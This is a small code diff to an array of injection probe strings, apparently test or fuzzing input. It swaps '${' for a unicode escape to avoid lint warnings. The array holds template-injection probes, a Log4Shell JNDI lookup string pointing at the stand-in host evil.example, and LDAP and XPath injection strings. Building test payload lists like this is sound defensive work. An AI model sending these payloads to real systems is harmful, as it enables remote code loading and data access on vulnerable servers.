@@ -164,8 +164,7 @@ const COMMANDS = [
   ],
   ...[
     "{{7*7}}",
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template would take it for.
-    "${7*7}",
+    "\u0024{7*7}",
     "#{7*7}",
     "<%= 7*7 %>",
     "{7*7}",
@@ -175,8 +174,7 @@ const COMMANDS = [
     "%{7*7}",
   ],
   ...[
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a log would take it for.
-    "${jndi:ldap://evil.example/a}",
+    "\u0024{jndi:ldap://evil.example/a}",
     "*)(uid=*))(|(uid=*",
     "' or count(/*)=1 or ''='",
     "//*",
